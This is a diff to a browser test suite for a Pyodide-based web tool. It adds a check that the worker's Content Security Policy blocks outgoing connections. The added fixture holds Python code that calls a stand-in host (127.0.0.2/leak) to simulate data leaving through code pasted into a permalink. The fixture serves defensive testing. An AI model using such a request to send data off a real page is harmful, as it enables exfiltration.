@@ -119,8 +119,16 @@ def test_seed_cnn_computed_in_the_page(watched, keras_files):
     assert f"{with_flops['models'][0]['analysis']['flops']:,}" in page.inner_text("dl.totals")
 
 
+LEAK = """from js import XMLHttpRequest
+request = XMLHttpRequest.new()
+request.open("GET", "http://127.0.0.2:9/leak", False)
+request.send()
+"""
+
+
 def test_page_runs_under_its_content_security_policy(chromium, site):
-    """The server's policy (scripts from its own origin only, no eval) holds while Pyodide runs."""
+    """The server's policies hold while Pyodide runs: the page's (scripts from its own origin, no
+    eval) and the Web Worker's (no connection to any other origin)."""
     strict = Watched(chromium, site.url, bypass_csp=False, viewport={"width": 1200, "height": 900})
     try:
         responses = []
@@ -130,6 +138,17 @@ def test_page_runs_under_its_content_security_policy(chromium, site):
         assert "script-src 'self'" in policy and "unsafe-eval" not in policy
         assert rows(page) == [layer["name"] for layer in cli_json(SEED)["models"][0]["layers"]]
         assert page.is_hidden("#error")
+        worker = next(r for r in responses if r.url == site.url + "/calc-worker.js")
+        assert "connect-src 'self'" in worker.headers["content-security-policy"]
+
+        # code that arrives in a permalink cannot send anything to another origin: the worker's
+        # own policy stops it before the network (nothing reaches the route that records)
+        page.fill("#code", LEAK)
+        page.click("#run")
+        page.wait_for_selector("#error:not([hidden])", timeout=60000)
+        assert page.inner_text("#error").startswith("nncalc: error: model.py:4: JsException: NetworkError")
+        failed = [r for r in strict.requests if "127.0.0.2" in r.url]
+        assert failed and all(r.failure == "csp" for r in failed)
         assert not strict.errors and not strict.outside
     finally:
         strict.close()
